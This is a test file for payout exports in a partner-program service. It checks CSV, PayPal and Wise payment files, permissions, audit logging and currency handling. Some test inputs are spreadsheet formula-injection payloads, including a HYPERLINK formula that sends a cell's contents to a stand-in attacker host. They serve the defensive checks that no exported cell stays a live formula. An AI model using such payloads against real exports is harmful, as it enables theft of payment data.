import { expect, test } from 'bun:test'
import { payout } from '@tributary/contract'
import { expectRefusal, givenClick, givenLink, givenUser, unique } from '../support/given.ts'
import { givenPayingProgram, givenPayoutDetails, givenRole, givenSale, type PayingProgram } from '../support/money.ts'
import { givenService } from '../support/shared-service.ts'

const service = await givenService()
const REWARD = { lead: { amountCents: 100 }, sale: { percentBps: 1_000, duration: 'lifetime' }, holdDays: 0 }
const CSV_HEADING =
  'payout_line_id,partner_id,partner_code,name,email,amount,currency,method,account,holder,status,paid_at,reference,needs_details,destination_held_until,partner_status'

const textOf = async (program: PayingProgram, payoutId: number, body: object) => {
  const answer = await program.file(payoutId, body)
  expect(answer.status).toBe(200)
  return answer.text()
}

const wants = (program: PayingProgram, method: string, account: string, partnerId = program.link.partnerId) =>
  givenPayoutDetails(service, { programId: program.id, partnerId, method, account })

test('a payout exports as an overview and as the payment file of each partner’s method', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, {
    name: '=cmd(), "Ltd"',
    email: 'contact@example.com',
  })
  await program.sale({ customer_key: await program.customer(), amount: 123_456, invoice_id: 'in-1' })
  const batch = payout.parse(await program.pay())
  const [line] = batch.lines
  const row = (details: string) =>
    `${line?.id},${program.link.partnerId},${program.link.partnerCode},"'=cmd(), ""Ltd""",contact@example.com,124.46,USD,${details}\r\n`
  expect(await textOf(program, batch.id, { format: 'csv' })).toBe(
    `${CSV_HEADING}\r\n${row(',,,open,,,true,,approved')}`,
  )
  await wants(program, 'paypal', 'pay@example.com')
  expect(await textOf(program, batch.id, { format: 'csv', currency: 'usd' })).toBe(
    `${CSV_HEADING}\r\n${row('paypal,pay@example.com,Maya,open,,,false,,approved')}`,
  )
  expect(await textOf(program, batch.id, { format: 'paypal' })).toBe(
    `pay@example.com,124.46,USD,payout-${batch.id}-${line?.id},Partner commission,PayPal\r\n`,
  )
})

test('a Wise file has the columns that Wise reads', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await givenSale(program, 10_000)
  await wants(program, 'wise', 'pay@example.com')
  const batch = payout.parse(await program.pay())
  expect(await textOf(program, batch.id, { format: 'wise' })).toBe(
    `name,recipientEmail,paymentReference,amountCurrency,amount,sourceCurrency,targetCurrency,type\r\nPartner,pay@example.com,payout-${batch.id}-${batch.lines[0]?.id},target,11.00,USD,USD,EMAIL\r\n`,
  )
})

test('an export is a POST with a known format, by a member who may pay', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await givenSale(program, 1_000)
  const { id } = await program.pay()
  const path = `${program.api}/payouts/${id}/export`
  expectRefusal(await program.owner.call('GET', path), 405, 'method_not_allowed')
  for (const body of [{}, { format: 'bank' }, { format: '__proto__' }, { format: 'csv', currency: 'XYZ' }])
    expectRefusal(await program.owner.call('POST', path, body), 400, 'invalid_request')
  for (const role of ['member', 'viewer']) {
    const colleague = await givenUser(service)
    await givenRole(service, program.workspaceId, colleague, role)
    expectRefusal(await colleague.call('POST', path, { format: 'csv' }), 403, 'forbidden')
  }
  const [line] = await service.db.selectFrom('payoutLines').selectAll().where('payoutId', '=', id).execute()
  expect(line?.exportedCents).toBeNull()
})

test('every export is in the audit log, with the exported amounts', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await givenSale(program, 1_000)
  await wants(program, 'paypal', 'pay@example.com')
  const { id, lines } = await program.pay()
  await program.file(id, { format: 'paypal' })
  await program.file(id, { format: 'wise' })
  const { data } = (await program.owner.call('GET', `${program.api}/audit?search=payout+exported`)).body
  expect(data).toMatchObject([
    {
      subject: `payout ${id}`,
      after: {
        format: 'paypal',
        lines: [{ id: lines[0].id, amountCents: 200, currency: 'USD', account: 'pay@example.com' }],
      },
    },
  ])
})

test('no cell of any payout file is a formula, whatever the partner’s name', async () => {
  for (const format of ['csv', 'paypal', 'wise']) {
    const program = await givenPayingProgram(service, REWARD)
    await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
    await wants(program, format === 'wise' ? 'wise' : 'paypal', 'pay@example.com')
    const { id } = await program.pay()
    for (const name of ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.example/?"&B2,"Ltd")']) {
      const partner = { name, email: 'contact@example.com' }
      await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, partner)
      const cells = (await textOf(program, id, { format })).split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      expect(cells.length).toBeGreaterThan(5)
      expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
    }
  }
})

test('a payment file pays to the account in the payout details, or leaves out a partner without a valid one', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, { email: 'c@example.com' })
  await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
  const { id } = await program.pay()
  for (const method of ['paypal', 'wise'])
    for (const account of ['not an address', '=HYPERLINK("https://evil.example/","me@example.com")', '@SUM(1)']) {
      await wants(program, method, account)
      const refused = await program.file(id, { format: method })
      expect(refused.status).toBe(409)
      expect(await refused.text()).toContain('Needs details: Partner')
      expect((await program.owner.call('GET', `${program.api}/payouts/${id}`)).body.data.lines).toMatchObject([
        { needsDetails: true },
      ])
    }
  await wants(program, 'bank', 'DE89370400440532013000')
  expect(await textOf(program, id, { format: 'csv' })).toContain(',USD,bank,DE89370400440532013000,Maya,open,')
  // With one more character it would be another address.
  await wants(program, 'paypal', '+wallet@example.com')
  expect(await textOf(program, id, { format: 'paypal' })).toStartWith('+wallet@example.com,')
})

test('a line is in the file of one method; one without payout details is in no payment file and needs details', async () => {
  const program = await givenPayingProgram(service, REWARD)
  const others = [await givenLink(service, program.id), await givenLink(service, program.id)]
  const methods = { paypal: program.link, wise: others[0], none: others[1] }
  for (const [method, link] of Object.entries(methods)) {
    const partnerId = link?.partnerId ?? 0
    await program.owner.call('PATCH', `${program.api}/partners/${partnerId}`, { email: `${method}@example.com` })
    if (method !== 'none') await wants(program, method, `${method}-wallet@example.com`, partnerId)
    const customer_key = unique('customer')
    if (link) await program.lead({ customer_key, click_id: await givenClick(service, link) })
    await program.sale({ customer_key, amount: 1_000, invoice_id: `in-${method}` })
  }
  const { id } = await program.pay()
  const paidBy = async (format: string) =>
    (await textOf(program, id, { format })).match(/[\w-]+@example.com/g)?.toSorted()
  const exported = async () => {
    const lines = await service.db.selectFrom('payoutLines').selectAll().where('payoutId', '=', id).execute()
    return lines.filter(({ exportedCents }) => exportedCents !== null).length
  }
  expect(await paidBy('paypal')).toEqual(['paypal-wallet@example.com'])
  expect(await exported()).toBe(1)
  expect(await paidBy('wise')).toEqual(['wise-wallet@example.com'])
  expect(await exported()).toBe(2)
  const { lines } = payout.parse((await program.owner.call('GET', `${program.api}/payouts/${id}`)).body.data)
  const shown = lines.map(({ partnerId, method, needsDetails }) => ({ partnerId, method, needsDetails }))
  expect(shown).toEqual([
    { partnerId: methods.paypal.partnerId, method: 'paypal', needsDetails: false },
    { partnerId: methods.wise?.partnerId ?? 0, method: 'wise', needsDetails: false },
    { partnerId: methods.none?.partnerId ?? 0, method: null, needsDetails: true },
  ])
  const { data } = (await program.owner.call('GET', `${program.api}/payouts/${id}/lines?sort=amountCents`)).body
  expect(data.filter(({ needsDetails }: { needsDetails: boolean }) => needsDetails)).toHaveLength(1)
})

test('a payment file has one currency', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await wants(program, 'paypal', 'pay@example.com')
  await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1', currency: 'EUR' })
  const { id } = await program.pay()
  const refused = await program.owner.call('POST', `${program.api}/payouts/${id}/export`, { format: 'paypal' })
  expectRefusal(refused, 400, 'invalid_request')
  expect(refused.body.error).toMatchObject({ field: 'currency', message: expect.stringContaining('EUR, USD') })
  expect(await textOf(program, id, { format: 'paypal', currency: 'EUR' })).toContain(',1.00,EUR,')
  expect((await program.file(id, { format: 'paypal', currency: 'GBP' })).status).toBe(409)
})
